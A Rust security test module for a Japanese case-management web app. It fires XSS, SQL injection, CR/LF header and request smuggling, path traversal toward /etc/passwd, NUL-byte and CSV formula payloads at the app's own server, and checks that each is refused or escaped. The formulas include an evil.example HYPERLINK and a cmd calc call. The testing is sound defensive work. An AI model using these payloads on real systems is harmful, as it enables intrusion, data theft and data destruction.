//! Hostile input: markup in names (XSS), SQL in every filter, CR/LF in parameters and
//! `../` in paths, NUL characters, spreadsheet formulas in names (CSV injection), and
//! whether the server's log holds personal data.

use reqwest::StatusCode;
use sea_orm::{EntityTrait, PaginatorTrait};
use serde_json::json;
use uketsuke_store::entities::{reception_request, user};

use super::client::{Api, new_case};
use super::{Ctx, Tally};

const XSS: [&str; 4] = [
    "<script>alert('xss')</script>医院",
    "\"><img src=x onerror=alert(1)>医院",
    "'><svg onload=alert(1)>医院",
    "</textarea><script>alert(2)</script>",
];

/// The raw markers that must never come back unescaped.
const XSS_RAW: [&str; 4] = [
    "<script>alert",
    "<img src=x",
    "<svg onload",
    "</textarea><script>",
];

/// Names with markup, on every page that shows a facility name: the list, the search,
/// the case page, the 回答書, the 返戻 letter, the dashboard; and echoed inputs (the
/// search box, the login name, the entry form).
pub async fn xss(ctx: &Ctx) -> anyhow::Result<Tally> {
    let mut t = Tally::new();
    let (admin, clerk, approver) = (ctx.api("kanri"), ctx.api("tanto-a"), ctx.api("kessai-a"));
    let mut ids = Vec::new();
    for (i, name) in XSS.iter().enumerate() {
        let mut body = new_case(name, "東京都新宿区西新宿2-8-1");
        body["founder_name"] = json!(format!("<b>開設</b>{i}"));
        let id = admin.create_case(&body).await?;
        match i {
            0 => {
                clerk
                    .act_ok(id, "propose", json!({"district": "01"}))
                    .await?;
                approver.act_ok(id, "approve", json!({})).await?;
            }
            1 => {
                approver
                    .act_ok(id, "return", json!({"reason": "<script>alert(3)</script>"}))
                    .await?;
            }
            _ => {}
        }
        ids.push(id);
    }
    let b = ctx.signed_in("kanri").await?;
    let mut pages: Vec<String> = vec![
        "/cases".into(),
        "/dashboard".into(),
        "/not-designated".into(),
        "/deliveries".into(),
        "/cases?name=%3Cscript%3Ealert(1)%3C%2Fscript%3E".into(),
        "/cases?code=%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E".into(),
        "/cases?sort=%3Cscript%3Ealert(1)%3C/script%3E&order=%22%3E%3Csvg%20onload%3Dalert(1)%3E"
            .into(),
    ];
    for id in &ids {
        pages.push(format!("/cases/{id}"));
    }
    pages.push(format!("/cases/{}/answer", ids[0]));
    pages.push(format!("/cases/{}/return-letter", ids[1]));
    for path in &pages {
        let page = b.get(path).await?;
        let text = page.text();
        t.check(page.status != StatusCode::INTERNAL_SERVER_ERROR, || {
            format!("GET {path}: 500")
        });
        for raw in XSS_RAW.iter().chain(["<b>開設</b>"].iter()) {
            t.check(!text.contains(raw), || {
                format!("{path} shows {raw:?} unescaped")
            });
        }
    }
    // The login form echoes the name typed.
    let anon =
        super::client::Browser::from_address(&ctx.server.base_url, Some("127.0.0.9".parse()?));
    let page = anon.try_login("<script>alert(1)</script>", "x").await?;
    t.check(!page.text().contains("<script>alert(1)"), || {
        "the login form echoes the name unescaped".into()
    });
    // The entry form re-shown with an error echoes what was typed.
    let csrf = b.csrf("/requests/new").await?;
    let page = b
        .post_form(
            "/requests/new",
            &[
                ("csrf", csrf.as_str()),
                ("kind", "medical"),
                ("facility_name", "<script>alert(9)</script>"),
                ("facility_address", "<img src=x onerror=alert(9)>"),
                ("designation_date", "not a date"),
            ],
        )
        .await?;
    let text = page.text();
    t.check(
        !text.contains("<script>alert(9)") && !text.contains("<img src=x onerror=alert(9)"),
        || "the entry form echoes markup unescaped".into(),
    );
    Ok(t)
}

const SQL: [&str; 7] = [
    "' OR '1'='1",
    "'; DROP TABLE users; --",
    "1 OR 1=1",
    "%' OR 1=1 --",
    "' UNION SELECT password_hash, NULL FROM users --",
    "1); DELETE FROM reception_requests; --",
    "\\'; UPDATE users SET role='admin'; --",
];

const FILTERS: [&str; 13] = [
    "status",
    "office",
    "kind",
    "month",
    "due_within",
    "overdue",
    "name",
    "code",
    "phone",
    "sort",
    "order",
    "page",
    "encoding",
];

/// SQL in every search and filter parameter of the list, its downloads and the API:
/// never a 500, never a row the search does not match, and the tables are intact.
pub async fn sql_injection(ctx: &Ctx) -> anyhow::Result<Tally> {
    let mut t = Tally::new();
    let before = (
        reception_request::Entity::find().count(&ctx.pool).await?,
        user::Entity::find().count(&ctx.pool).await?,
    );
    let b = ctx.signed_in("kanri").await?;
    let api = ctx.api("kanri");
    let routes: &[&str] = if ctx.fast {
        &["/cases", "/api/v1/requests"]
    } else {
        &["/cases", "/cases.csv", "/cases.xlsx", "/api/v1/requests"]
    };
    for sql in SQL {
        for param in FILTERS {
            for route in routes {
                let url = format!("{route}?{param}={}", super::files::percent(sql));
                let (status, found) = list_ids(&b, &api, &url).await?;
                t.check(status != StatusCode::INTERNAL_SERVER_ERROR, || {
                    format!("GET {url}: 500")
                });
                if *route == "/cases.xlsx" || !status.is_success() {
                    continue;
                }
                // No extra rows: the injected value finds what its plain reading finds
                // (code and phone compare digits; a name nothing).
                let plain: String = match param {
                    "code" | "phone" => sql.chars().filter(char::is_ascii_digit).collect(),
                    "name" => "存在しない名前".to_owned(),
                    _ => continue,
                };
                let plain_url = format!("{route}?{param}={}", super::files::percent(&plain));
                let (_, expected) = list_ids(&b, &api, &plain_url).await?;
                t.check(found == expected, || {
                    format!(
                        "GET {url} lists {} cases, its plain reading {}",
                        found.len(),
                        expected.len()
                    )
                });
            }
        }
    }
    // Into the path and the login form too (from an address of its own).
    let anon =
        super::client::Browser::from_address(&ctx.server.base_url, Some("127.0.0.11".parse()?));
    for sql in SQL {
        let path = format!("/cases/{}", super::files::percent(sql));
        let p = b.get(&path).await?;
        t.check(p.status.is_client_error(), || {
            format!("GET {path}: {}", p.status)
        });
        let page = anon.try_login(sql, sql).await?;
        t.check(
            page.status == StatusCode::OK || page.status == StatusCode::UNPROCESSABLE_ENTITY,
            || format!("login as {sql:?}: {}", page.status),
        );
    }
    let after = (
        reception_request::Entity::find().count(&ctx.pool).await?,
        user::Entity::find().count(&ctx.pool).await?,
    );
    t.check(before == after, || {
        format!("rows changed (requests, users): {before:?} → {after:?}")
    });
    let admin = uketsuke_store::users::find_by_username(&ctx.pool, "etsuran").await?;
    t.check(admin.is_some_and(|u| u.role == "viewer"), || {
        "the viewer's role changed".into()
    });
    Ok(t)
}

/// The case ids a list answers with (page links or the API's items; a CSV's ids).
async fn list_ids(
    b: &super::client::Browser,
    api: &Api,
    url: &str,
) -> anyhow::Result<(StatusCode, std::collections::BTreeSet<String>)> {
    if url.starts_with("/api") {
        let (status, json) = api.get(url).await?;
        let ids = json["items"]
            .as_array()
            .map(|items| items.iter().map(|i| i["id"].to_string()).collect())
            .unwrap_or_default();
        return Ok((status, ids));
    }
    let page = b.get(url).await?;
    let text = page.text();
    let ids = text
        .split("/cases/")
        .skip(1)
        .map(|s| {
            s.chars()
                .take_while(char::is_ascii_digit)
                .collect::<String>()
        })
        .filter(|s| !s.is_empty())
        .collect();
    Ok((page.status, ids))
}

/// CR/LF in parameters (no header of ours appears) and `../` in paths (no file of the
/// server is read).
pub async fn header_and_path_injection(ctx: &Ctx) -> anyhow::Result<Tally> {
    let mut t = Tally::new();
    let b = ctx.signed_in("kanri").await?;
    let crlf = "%0d%0aX-Injected:%20yes%0d%0aSet-Cookie:%20injected=1";
    let mut urls: Vec<String> = FILTERS
        .iter()
        .flat_map(|p| {
            [
                format!("/cases?{p}=x{crlf}"),
                format!("/cases.csv?{p}=x{crlf}"),
            ]
        })
        .collect();
    urls.push(format!("/cases/{}{crlf}", ctx.world.tokyo_case));
    urls.push(format!("/login?next={crlf}"));
    urls.push(format!(
        "/cases/{}?done=propose{crlf}",
        ctx.world.tokyo_case
    ));
    for url in &urls {
        let r = b.client.get(b.url(url)).send().await?;
        let injected = r.headers().contains_key("x-injected")
            || r.headers()
                .get_all("set-cookie")
                .iter()
                .any(|v| v.to_str().unwrap_or_default().contains("injected"));
        t.check(
            !injected && r.status() != StatusCode::INTERNAL_SERVER_ERROR,
            || format!("GET {url}: {} with an injected header", r.status()),
        );
    }
    // A raw request line with CR/LF in the target: the server refuses or ignores it.
    let paths = [
        "/static/..%2f..%2fCargo.toml",
        "/static/../../../../etc/passwd",
        "/static/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
        "/cases/..%2f..%2f..%2fetc%2fpasswd",
        "/forms/..%2f..%2f..%2fetc%2fpasswd",
        "/..%2f..%2f..%2f..%2fetc%2fpasswd",
        "/%2e%2e/%2e%2e/config/default.toml",
        "/cases/1/../../../../etc/passwd",
        "/static/site.css%00.html",
        "/api/v1/requests/..%2f..%2fopenapi.json",
        "//etc/passwd",
        "/static/..\\..\\Cargo.toml",
    ];
    for path in paths {
        let p = b.get(path).await?;
        let text = p.text();
        t.check(
            !text.contains("root:x:0:0")
                && !text.contains("[workspace]")
                && !text.contains("[database]")
                && p.status != StatusCode::INTERNAL_SERVER_ERROR,
            || format!("GET {path}: {} and it served a file", p.status),
        );
    }
    // Raw CR/LF in a header value we send is refused by the client itself; a raw
    // request line with a space-smuggled header goes over TCP.
    for raw in [
        "GET /cases HTTP/1.1\r\nHost: x\r\nX-Forwarded-Host: evil\r\n\r\n",
        "GET /login\r\nX-Injected: yes HTTP/1.1\r\nHost: x\r\n\r\n",
        "GET /%0d%0aX-Injected:%20yes HTTP/1.1\r\nHost: x\r\n\r\n",
    ] {
        let answer = raw_http(&ctx.server.base_url, raw)
            .await
            .unwrap_or_default();
        let head = answer
            .split("\r\n\r\n")
            .next()
            .unwrap_or_default()
            .to_ascii_lowercase();
        t.check(
            !head.contains("x-injected") && !head.starts_with("http/1.1 500"),
            || format!("raw request {raw:?} answered {head:?}"),
        );
    }
    Ok(t)
}

/// Sends `raw` over a TCP connection to the server and reads the answer.
async fn raw_http(base: &str, raw: &str) -> anyhow::Result<String> {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let addr = base.trim_start_matches("http://");
    let mut s = tokio::net::TcpStream::connect(addr).await?;
    s.write_all(raw.as_bytes()).await?;
    let mut buf = vec![0u8; 8192];
    let n = tokio::time::timeout(std::time::Duration::from_secs(5), s.read(&mut buf))
        .await
        .unwrap_or(Ok(0))?;
    Ok(String::from_utf8_lossy(&buf[..n]).into_owned())
}

/// A NUL character in the name search, the entry form, account creation, login and the
/// API: 422, never 500, nothing written.
pub async fn nul(ctx: &Ctx) -> anyhow::Result<Tally> {
    let mut t = Tally::new();
    let before = (
        reception_request::Entity::find().count(&ctx.pool).await?,
        user::Entity::find().count(&ctx.pool).await?,
    );
    let b = ctx.signed_in("kanri").await?;
    for url in [
        "/cases?name=%00",
        "/cases?name=a%00b",
        "/cases?code=13%00",
        "/cases?phone=%00",
        "/cases.csv?name=%00",
        "/cases?status=%00",
    ] {
        let p = b.get(url).await?;
        t.check(p.status == StatusCode::UNPROCESSABLE_ENTITY, || {
            format!("GET {url}: {}", p.status)
        });
    }
    for (field, value) in [
        ("facility_name", "さくら\0内科"),
        ("facility_address", "東京都\0新宿区"),
        ("founder_name", "厚生\0太郎"),
        ("contact_phone", "03-5321-1111\0"),
        ("designation_date", "令和9年\u{0}4月1日"),
    ] {
        let csrf = b.csrf("/requests/new").await?;
        let mut fields = vec![
            ("csrf", csrf.as_str()),
            ("kind", "medical"),
            ("facility_name", "さくら内科"),
            ("facility_address", "東京都新宿区西新宿2-8-1"),
            ("designation_date", "令和9年4月1日"),
            ("founder_kind", "person"),
            ("founder_name", "厚生 太郎"),
            ("contact_phone", "03-5321-1111"),
        ];
        if let Some(f) = fields.iter_mut().find(|(k, _)| *k == field) {
            f.1 = value;
        }
        let p = b.post_form("/requests/new", &fields).await?;
        t.check(p.status == StatusCode::UNPROCESSABLE_ENTITY, || {
            format!("entry form with NUL in {field}: {}", p.status)
        });
    }
    for (field, value) in [("username", "bad\0name"), ("display_name", "x\0y")] {
        let csrf = b.csrf("/admin/users").await?;
        let mut fields = vec![
            ("csrf", csrf.as_str()),
            ("username", "nul-user"),
            ("display_name", "x"),
            ("role", "viewer"),
        ];
        if let Some(f) = fields.iter_mut().find(|(k, _)| *k == field) {
            f.1 = value;
        }
        let p = b.post_form("/admin/users", &fields).await?;
        t.check(p.status == StatusCode::UNPROCESSABLE_ENTITY, || {
            format!("account creation with NUL in {field}: {}", p.status)
        });
    }
    let anon =
        super::client::Browser::from_address(&ctx.server.base_url, Some("127.0.0.10".parse()?));
    for (u, p) in [("kanri\0", "x"), ("kanri", "pw\0x")] {
        let page = anon.try_login(u, p).await?;
        t.check(page.status == StatusCode::UNPROCESSABLE_ENTITY, || {
            format!("login with NUL: {}", page.status)
        });
    }
    let api = ctx.api("kanri");
    for field in [
        "facility_name",
        "facility_address",
        "founder_name",
        "contact_phone",
    ] {
        let mut body = new_case("さくら内科", "東京都新宿区西新宿2-8-1");
        body[field] = json!(format!(
            "{}\u{0}x",
            body[field].as_str().unwrap_or_default()
        ));
        let (status, json) = api.post("/api/v1/requests", &body).await?;
        t.check(status == StatusCode::UNPROCESSABLE_ENTITY, || {
            format!("API with NUL in {field}: {status} {json}")
        });
    }
    let (status, _) = api.get("/api/v1/requests?name=%00").await?;
    t.check(status == StatusCode::UNPROCESSABLE_ENTITY, || {
        format!("API search with NUL: {status}")
    });
    let (status, _) = api
        .post(
            &format!("/api/v1/requests/{}/return", ctx.world.tokyo_case),
            &json!({"version": 1, "reason": "理由\u{0}"}),
        )
        .await?;
    t.check(status.is_client_error(), || {
        format!("API action with NUL in the reason: {status}")
    });
    let p = b.get("/cases/1%00").await?;
    t.check(p.status.is_client_error(), || {
        format!("GET /cases/1%00: {}", p.status)
    });
    let after = (
        reception_request::Entity::find().count(&ctx.pool).await?,
        user::Entity::find().count(&ctx.pool).await?,
    );
    t.check(before == after, || {
        format!("rows were written (requests, users): {before:?} → {after:?}")
    });
    Ok(t)
}

/// Re-sending a mail that is still queued is refused with a message; `uketsuke import
/// --office nosuchoffice` exits non-zero and writes nothing.
pub async fn plain_refusals(ctx: &Ctx) -> anyhow::Result<Tally> {
    let mut t = Tally::new();
    let queued = uketsuke_store::outbox::enqueue(
        &ctx.pool,
        &uketsuke_store::outbox::NewMessage {
            dedupe_key: format!("attack-resend-{}", uuid::Uuid::new_v4().simple()),
            kind: "digest".into(),
            bureau_id: Some(super::world::BUREAU.into()),
            recipients: vec!["staff@example.invalid".into()],
            subject: "試験".into(),
            body: "試験".into(),
            attachment: None,
        },
        chrono::Utc::now() + chrono::TimeDelta::days(30),
    )
    .await?;
    let b = ctx.signed_in("kessai-a").await?;
    for _ in 0..3 {
        let csrf = b.csrf("/deliveries").await?;
        let p = b
            .post_form(
                &format!("/deliveries/{}/resend", queued.id),
                &[("csrf", csrf.as_str())],
            )
            .await?;
        t.check(
            p.status == StatusCode::UNPROCESSABLE_ENTITY
                && p.text()
                    .contains("送信待ち・送信中のメールは再送できません"),
            || format!("re-sending a queued mail: {}", p.status),
        );
    }
    for id in ["999999", "-1", "abc"] {
        let csrf = b.csrf("/deliveries").await?;
        let p = b
            .post_form(
                &format!("/deliveries/{id}/resend"),
                &[("csrf", csrf.as_str())],
            )
            .await?;
        t.check(p.status.is_client_error(), || {
            format!("re-sending mail {id}: {}", p.status)
        });
    }
    let before = reception_request::Entity::find().count(&ctx.pool).await?;
    let form = super::files::form_path(ctx)?;
    let form = form.display().to_string();
    for office in ["nosuchoffice", "../tokyo", "tokyo\u{7f}", "' OR 1=1 --"] {
        let out = ctx.bin.run(
            &ctx.db.url,
            ctx.smtp.port,
            &["import", "--office", office, form.as_str()],
        )?;
        let text = format!(
            "{}{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        );
        t.check(!out.status.success() && text.contains("事務所"), || {
            format!("import --office {office:?}: {} {text}", out.status)
        });
    }
    let after = reception_request::Entity::find().count(&ctx.pool).await?;
    t.check(before == after, || {
        format!("import with a bad office wrote {} requests", after - before)
    });
    Ok(t)
}

/// Spreadsheet formulas in facility names come out neutralised (a leading `'`) in every
/// CSV: the case list (UTF-8 and Shift_JIS) and the 一覧表 (`uketsuke export --format
/// csv`, both encodings).
pub async fn csv_injection(ctx: &Ctx) -> anyhow::Result<Tally> {
    let mut t = Tally::new();
    let names = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"詳細\")",
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "=1+1医院",
    ];
    let (admin, clerk, approver): (Api, Api, Api) =
        (ctx.api("kanri"), ctx.api("tanto-a"), ctx.api("kessai-a"));
    let mut ids = Vec::new();
    for name in names {
        let mut body = new_case(name, "東京都千代田区霞が関1-2-2");
        body["founder_name"] = json!("=cmd|'/C calc'!A0");
        body["contact_phone"] = json!("03-5253-1111");
        let id = admin.create_case(&body).await?;
        clerk
            .act_ok(id, "propose", json!({"district": "01"}))
            .await?;
        approver.act_ok(id, "approve", json!({})).await?;
        ids.push(id);
    }
    let today = chrono::Utc::now()
        .date_naive()
        .format("%Y-%m-%d")
        .to_string();
    let (status, session) = approver
        .post(
            "/api/v1/council-sessions",
            &json!({"prefecture": "13", "held_on": today, "name": "攻撃試験の回", "request_ids": ids}),
        )
        .await?;
    anyhow::ensure!(status.is_success(), "council session: {status} {session}");
    let session_id = session["id"].as_i64().unwrap_or_default().to_string();

    let b = ctx.signed_in("kanri").await?;
    let mut files: Vec<(String, String)> = Vec::new();
    for enc in ["utf8", "sjis"] {
        let p = b.get(&format!("/cases.csv?encoding={enc}")).await?;
        anyhow::ensure!(p.status == StatusCode::OK, "/cases.csv {enc}: {}", p.status);
        files.push((format!("/cases.csv?encoding={enc}"), decode(&p.body, enc)));
    }
    for enc in ["utf8", "sjis"] {
        let out = ctx.bin.dir.join(format!("list-{enc}.csv"));
        let out_s = out.display().to_string();
        let o = ctx.bin.run(
            &ctx.db.url,
            ctx.smtp.port,
            &[
                "export",
                "--session",
                session_id.as_str(),
                "--format",
                "csv",
                "--encoding",
                enc,
                "--out",
                out_s.as_str(),
            ],
        )?;
        anyhow::ensure!(
            o.status.success(),
            "export {enc}: {}",
            String::from_utf8_lossy(&o.stderr)
        );
        files.push((
            format!("uketsuke export --encoding {enc}"),
            decode(&std::fs::read(&out)?, enc),
        ));
    }
    for (what, text) in &files {
        for name in names {
            let neutral = format!("'{}", name);
            t.check(
                text.contains(&neutral) || text.contains(&neutral.replace('"', "\"\"")),
                || format!("{what}: {name:?} is not there with a leading '"),
            );
        }
        for (n, row) in parse_csv(text).iter().enumerate() {
            for cell in row {
                t.check(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), || {
                    format!("{what}: row {n} has a live formula cell {cell:?}")
                });
            }
        }
    }
    Ok(t)
}

fn decode(bytes: &[u8], enc: &str) -> String {
    if enc == "sjis" {
        encoding_rs::SHIFT_JIS.decode(bytes).0.into_owned()
    } else {
        String::from_utf8_lossy(bytes.strip_prefix(b"\xEF\xBB\xBF").unwrap_or(bytes)).into_owned()
    }
}

/// A CSV parser enough for RFC 4180 (quoted fields, doubled quotes, CRLF).
fn parse_csv(text: &str) -> Vec<Vec<String>> {
    let (mut rows, mut row, mut cell) = (Vec::new(), Vec::new(), String::new());
    let (mut quoted, mut chars) = (false, text.chars().peekable());
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                cell.push('"');
                chars.next();
            }
            (true, '"') => quoted = false,
            (true, c) => cell.push(c),
            (false, '"') if cell.is_empty() => quoted = true,
            (false, ',') => row.push(std::mem::take(&mut cell)),
            (false, '\r') if chars.peek() == Some(&'\n') => {}
            (false, '\n') => {
                row.push(std::mem::take(&mut cell));
                rows.push(std::mem::take(&mut row));
            }
            (false, c) => cell.push(c),
        }
    }
    if !cell.is_empty() || !row.is_empty() {
        row.push(cell);
        rows.push(row);
    }
    rows
}

/// The server's log after every attack holds none of the personal data the attacks
/// typed (founder names, phone numbers, passwords).
pub async fn personal_data_in_log(ctx: &Ctx) -> anyhow::Result<Tally> {
    let mut t = Tally::new();
    let log = ctx.server.log();
    let mut secrets: Vec<String> = vec![
        "攻撃 太郎".into(),
        "03-5321-1111".into(),
        "03-5253-1111".into(),
        "厚生 太郎".into(),
        "千葉県千葉市中央区".into(),
    ];
    for (u, ..) in super::world::ACCOUNTS {
        secrets.push(super::world::password(u));
    }
    for (u, ..) in super::world::ACCOUNTS {
        secrets.push(ctx.world.token(u));
    }
    for s in &secrets {
        t.check(!s.is_empty() && !log.contains(s.as_str()), || {
            format!("the server log contains {s:?}")
        });
    }
    Ok(t)
}

#[cfg(test)]
mod tests {
    #[test]
    fn parse_csv_reads_quotes_and_line_ends() {
        let rows = super::parse_csv("a,\"b,\"\"c\"\"\"\r\n'=1,x\n");
        assert_eq!(rows, vec![vec!["a", "b,\"c\""], vec!["'=1", "x"]]);
    }
}
